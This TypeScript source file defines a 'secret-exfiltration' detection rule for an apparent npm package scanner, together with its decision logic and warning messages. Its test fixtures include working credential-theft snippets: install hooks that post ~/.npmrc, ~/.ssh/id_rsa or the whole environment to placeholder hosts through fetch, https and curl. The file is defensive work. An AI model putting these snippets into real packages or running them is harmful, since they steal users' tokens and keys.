import type { Action, Context, Flow, Inspection, Rule, Source } from '../lib/types.ts'
import {
  familyOf,
  isOwnFile,
  isOwnService,
  areOwnSettings,
  isOwnVariable,
  isKeptForHost,
  isSignIn,
  isPersonal,
  ciIdentity,
  keyMaterial,
  lootOf,
} from './behaviour/credentials.ts'
import type { Loot } from './behaviour/credentials.ts'
import { carriedTo } from './behaviour/carried.ts'
import { distinctByKey } from './behaviour/grouped.ts'
import { guardsInWords } from './behaviour/guards.ts'
import { isStranger, placeInWords } from './behaviour/place.ts'
import type { Place } from './behaviour/place.ts'
import { findingsOf, isUnasked, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
import { isWalk } from './behaviour/swept.ts'
import { destinationsInWords, findingOfFlow, opening, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'

type Theft = { readonly flow: Flow; readonly place: Place; readonly loot: Loot; readonly foreign: boolean }

/** Credentials that leave the machine without anybody asking for it. */
export const secretExfiltration: Rule = {
  meta: {
    id: 'secret-exfiltration',
    title: 'Sends credentials away',
    severity: 'critical',
    description:
      'The code reads credentials it was never given (a token file, the whole environment, a secret variable, what a ' +
      'credential command prints) and sends them to another machine: in a request, a looked-up name or the arguments of ' +
      'a network tool. No install step of an honest package needs that. A client that signs in to its own service with ' +
      'its own key is left alone; files and whole environments are not, whatever the homepage says.',
    references: [
      'crossenv (2017)',
      'eslint-scope 3.7.2 (2018)',
      'Shai-Hulud (2025)',
      'node-ipc 9.2.3 (2026)',
      'tj-actions/changed-files (March 2025): the memory of a runner printed twice encoded',
    ],
    blindSpots: [
      'Code that is fetched at run time and does the sending itself.',
      'A secret split over several variables whose names say nothing.',
    ],
    examples: {
      flags: [
        {
          title: 'a function publishes what it found at another registry',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const fs = require('fs'), os = require('os')\nexports.release = () => {\n  fs.writeFileSync('/tmp/p/README.md', fs.readFileSync(os.homedir() + '/.docker/config.json', 'utf8'))\n  require('child_process').execSync('npm publish /tmp/p --registry https://npm.invalid')\n}\n",
          },
        },
        {
          title: 'a hook reads the npm token and posts it',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
            'setup.js':
              "const fs = require('fs'), os = require('os'), path = require('path')\n" +
              "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')\n" +
              "const request = require('https').request({ host: 'collect.invalid', method: 'POST' })\n" +
              'request.end(token)\n',
          },
        },
        {
          title: 'a hook posts the whole environment',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}',
            'setup.js':
              "fetch('https://collect.invalid/env', { method: 'POST', body: JSON.stringify(process.env) })\n",
          },
        },
        {
          title: 'a shell hook hands the environment to curl',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"sh setup.sh"}}',
            'setup.sh': 'curl -s -X POST --data "$(env)" https://collect.invalid/env\n',
          },
        },
        {
          title: 'a shell script gathers the files it finds in its own words',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"preinstall":"sh setup"}}',
            setup:
              'cd "$HOME"\nset --\nfor f in .ssh/id_rsa .npmrc; do\n  [ -r "$f" ] && set -- "$@" "$f"\ndone\ntar cz "$@" | curl -s -T - https://drop.invalid/in\n',
          },
        },
        {
          title: 'the file of another condition than that of development',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","type":"module","exports":"./i.js","imports":{"#format":{"development":"./format.js","default":"./format.min.js"}}}',
            'i.js': "import { format } from '#format'\nexport { format }\n",
            'format.js': 'export const format = String\n',
            'format.min.js':
              "import { readFileSync } from 'node:fs'\nimport { homedir } from 'node:os'\nfetch('https://drop.invalid/in', { method: 'POST', body: readFileSync(homedir() + '/.ssh/id_rsa') })\nexport const format = String\n",
          },
        },
        {
          title: 'the token of the registry in the header of a request to a stranger',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const fs = require('fs'), os = require('os')\nconst token = () => /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))?.[1]\nexports.theme = name => fetch('https://themes.invalid/' + name, { headers: { cookie: token() } })\n",
          },
        },
      ],
      passes: [
        {
          title:
            'a command that starts a container with the variables of its user, and a script that speaks of the host',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
            'cli.js':
              "#!/usr/bin/env node\nconst { spawn } = require('child_process')\nconst image = 'us-docker.pkg.example/a/sandbox:1.0.0'\n" +
              "const args = ['exec', image]\nfor (const [name, value] of Object.entries(process.env)) args.push('--env', `${name}=${value}`)\n" +
              "args.push('--', 'bash', '-c', 'id || echo \"Failed to map host UID\"')\nspawn('lxc', args, { stdio: 'inherit' })\n",
          },
        },
        {
          title: 'a command publishes with the settings of its user',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
            'cli.js':
              "#!/usr/bin/env node\nconst fs = require('fs'), os = require('os')\nfs.writeFileSync('dist/.npmrc', fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))\nrequire('child_process').execSync('npm publish dist --registry https://npm.invalid')\n",
          },
        },
        {
          title: 'a hook reads a credential file and keeps it to itself',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
            'setup.js':
              "const fs = require('fs'), os = require('os'), path = require('path')\n" +
              "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')\n" +
              "console.log(rc.includes('registry=') ? 'custom registry' : 'default registry')\n",
          },
        },
        {
          title: 'a client sends the key its caller configured',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
            'index.js':
              'exports.get = (apiKey, path) =>\n' +
              "  fetch('https://api.a.example' + path, { headers: { authorization: apiKey } })\n",
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const thefts = inspection.flows.flatMap(flow => theftOf(flow, inspection, context))
    const families = familiesByPlace(thefts)
    const files = filesByPlace(thefts)
    const sightings = thefts.flatMap((theft): readonly Sighting[] => {
      const action = weigh(
        theft,
        families.get(placeKey(theft))?.size ?? 1,
        files.get(placeKey(theft))?.size ?? 0,
      )
      if (action === undefined) return []
      return [{ flow: theft.flow, place: theft.place, action, severity: severityOf(action) }]
    })
    return [...findingsOf(sightings, say), ...inspection.flows.flatMap(ofLog)]
  },
}

/** Logs of builds mask secrets they know: what is encoded first is there for whoever reads the log of an open project. */
function ofLog(flow: Flow): readonly RuleFinding[] {
  if (flow.sink.role !== 'printed' || flow.byCall || !isUnasked(flow)) return []
  const message =
    `${opening(flow)} prints the whole environment in a form that the log of a build does not mask. Whoever can read ` +
    'that log has its secrets. Do not install it; where it ran, replace them.'
  return [findingOfFlow(flow, { action: flow.certain ? 'block' : 'ask', severity: 'critical', message })]
}

function theftOf(flow: Flow, inspection: Inspection, context: Context): readonly Theft[] {
  const loot = lootOf(flow.source) ?? printed(flow.source, inspection, context) ?? swept(flow)
  const place =
    loot === undefined
      ? undefined
      : (leavesFor(flow, inspection, context) ??
        (loot === 'hard' ? carriedTo(flow, inspection, context) : undefined))
  if (loot === undefined || place === undefined || place.kind === 'local') return []
  if (areOwnSettings(flow.source, place, inspection, context)) return []
  // What the metadata service is asked and answers is between it and the machine.
  if (flow.sink.destinations.length > 0 && flow.sink.destinations.every(isMetadata)) return []
  // A name is quickly chosen: `docker-lint` may read the logins of docker, but not post them to a stranger unasked.
  // Nor does a command of its own need a mailbox in the code.
  const entrusted = !place.telling && (!isStranger(place) || !isUnasked(flow) || flow.sink.role === 'header')
  if (loot === 'hard' && entrusted && isOwnFile(flow.source.name, context.name)) return []
  if (loot === 'file' && isKeptForHost(flow, place, context)) return []
  const own = loot === 'named' && isOwnVariable(flow.source.name, place, inspection, context)
  return [{ flow, place, loot, foreign: !own }]
}

/** What a program of the package's own prints, where that program reads credentials or the memory of others. */
function printed(source: Source, inspection: Inspection, context: Context): Loot | undefined {
  if (source.kind !== 'command-output' || !source.name.includes('/__package__/')) return undefined
  const reads = inspection.facts.some(
    fact =>
      fact.kind === 'reads' &&
      source.name.includes(`/__package__/${fact.at.path}`) &&
      (memory.test(fact.name) ||
        (fact.source === 'credential-file' &&
          !isOwnFile(fact.name, context.name) &&
          lootOf({ kind: fact.source, name: fact.name, at: fact.at }) === 'hard')),
  )
  return reads ? 'hard' : undefined
}

/** Whatever lies in the project, file after file: names that nobody wrote down, in what is sent. */
function swept({ source, sink, certain }: Flow): Loot | undefined {
  return source.kind === 'project-file' &&
    certain &&
    sink.role === 'payload' &&
    /^\/__project__(?:\/\u0001)+$/.test(source.name)
    ? 'file'
    : undefined
}

/** What another process holds. */
const memory = /^\/proc\/.{1,80}\/(?:mem|environ)$/

function isMetadata(destination: string): boolean {
  return /169\.254\.1(?:69\.254|70\.2)|100\.100\.100\.200|metadata\.(?:google\.internal|tencentyun\.com|azure\.com)/.test(
    destination,
  )
}

function placeKey({ flow, place }: Theft): string {
  return `${flow.phase}\0${place.host?.name ?? place.kind}`
}

/** How many different secrets of others go to the same place: one may be a setting, several are a collection. */
function familiesByPlace(thefts: readonly Theft[]): ReadonlyMap<string, ReadonlySet<string>> {
  return distinctByKey(
    thefts
      .filter(({ foreign, flow }) => foreign && flow.sink.role !== 'header')
      .map(theft => [placeKey(theft), familyOf(theft.flow.source)]),
  )
}

/** How many programs' files of credentials go to the same place, in headers too: a client signs in with those of one. */
function filesByPlace(thefts: readonly Theft[]): ReadonlyMap<string, ReadonlySet<string>> {
  return distinctByKey(
    thefts
      .filter(({ loot, flow }) => loot === 'hard' && flow.source.kind === 'credential-file' && flow.certain)
      .map(theft => [placeKey(theft), programOf(theft.flow.source.name)]),
  )
}

/** Whose file it is: a program's settings lie in the home folder, in the project, and wherever it was started. */
function programOf(path: string): string {
  return path.replace(/^(?:~|\/__project__|<project>|\.|\u0001)\//, '').split('/', 1)[0] ?? path
}

function weigh({ flow, place, loot, foreign }: Theft, families: number, files: number): Action | undefined {
  const stranger = isStranger(place)
  const sure = flow.certain
  if (loot === 'named') return weighVariable(flow, place, foreign, families)
  // How credentials are meant to be used: the registry's token in the registry's header.
  if (loot === 'hard' && isSignIn(flow, place))
    return (flow.phase === 'install' && !isOwnService(flow, place)) || (place.kind === 'own' && files > 1)
      ? 'ask'
      : 'note'
  if (loot === 'file' && isOwnService(flow, place)) return undefined
  if (loot === 'file')
    return stranger && isUnasked(flow)
      ? (families > 1 || isWalk(flow.source.name)) && sure
        ? 'block'
        : 'ask'
      : undefined
  // Streams of files are joined by callers in every direction; a request is what sends.
  if (flow.sink.api.startsWith('node:fs') && flow.sink.kind !== 'write') return undefined
  // A helper that was given the environment gives single settings back: one of them, perhaps, is part of an address.
  if (loot === 'whole' && place.kind === 'unknown' && flow.sink.role === 'dest' && !flow.certain)
    return 'note'
  if (loot === 'whole' && !stranger) {
    // A homepage is the author's claim: what everybody's environment holds is nothing its own service is for.
    const toOwner = place.kind === 'own' && flow.phase === 'import' && !flow.byCall && sure
    return flow.phase === 'install' || toOwner ? 'ask' : isUnasked(flow) ? 'note' : undefined
  }
  if (flow.phase === 'install') return sure ? 'block' : 'ask'
  if (flow.phase === 'import')
    return sure && (stranger || (loot === 'hard' && families > 1)) ? 'block' : 'ask'
  if (place.kind === 'capture') return sure ? 'block' : 'ask'
  // Nobody signs in at a stranger with what another program signs in elsewhere: a header is where it is not looked for.
  if (!stranger) return 'note'
  if (flow.sink.role === 'header') return sure && (files > 1 || loot === 'hard') ? 'ask' : 'note'
  if (!sure) return 'note'
  return loot === 'hard' && (families > 1 || isPersonal(flow.source)) ? 'block' : 'ask'
}

/** Variables that hold the address of a database with its password. */
const connection =
  /^(?:\w+_)?(?:database|postgres(?:ql)?|pg|mysql|mariadb|mongo(?:db)?|redis|amqp|rabbitmq|db)_(?:ur[il]|connection_?string)$/i

function weighVariable(flow: Flow, place: Place, foreign: boolean, families: number): Action | undefined {
  const stranger = isStranger(place)
  // Whoever asks for a name made of a secret hides it: no service is signed in to that way.
  if (flow.sink.kind === 'dns' && place.kind !== 'unknown') return flow.certain ? 'block' : 'ask'
  if (stranger && keyMaterial.test(flow.source.name)) return flow.certain ? 'block' : 'ask'
  if (foreign && place.kind === 'own' && isUnasked(flow) && !flow.byCall && flow.certain && families > 1)
    return 'ask'
  if (!foreign || !stranger) return isUnasked(flow) && !stranger && foreign ? 'note' : undefined
  if (place.kind === 'capture') return flow.certain ? 'block' : 'ask'
  if (flow.sink.role === 'header') return flow.phase === 'install' ? 'ask' : 'note'
  if (isUnasked(flow)) return flow.certain && families > 1 ? 'block' : 'ask'
  // A driver is what needs the address of a database, not the content of a request to somebody else.
  if (flow.certain && flow.sink.role === 'payload' && connection.test(flow.source.name)) return 'ask'
  // What says who a run is, signs in where that is trusted; a stranger that is given it in a request may be that run.
  if (flow.certain && ciIdentity.test(flow.source.name)) return 'ask'
  return families > 2 ? 'ask' : 'note'
}

function say(group: SightingGroup): string {
  const [{ flow, place, action }] = group
  const destinations = group.flatMap(({ flow: { sink } }) => sink.destinations)
  const shown = place.host === undefined ? destinationsInWords(destinations) : place.host.shown
  const how = flow.sink.kind === 'write' ? 'publishes that at' : 'sends that to'
  const what =
    `${opening(flow)} reads ${sourcesInWords(group)} and ${how} ${shown}, ` +
    `${placeInWords(place)}${guardsInWords(flow.guards)}.`
  if (action === 'note') return what
  if (!isUnasked(flow)) return `${what} The caller never handed these over. Read that code before you use it.`
  const doing = flow.phase === 'install' ? 'installed' : 'loaded'
  return group.every(({ flow: { source } }) => source.kind === 'file' || source.kind === 'project-file')
    ? `${what} No package needs to send files away to be ${doing}. Do not install it unless you know what is in them and whose host that is.`
    : `${what} No package needs that to be ${doing}. Do not install it; where it already ran, replace those credentials.`
}
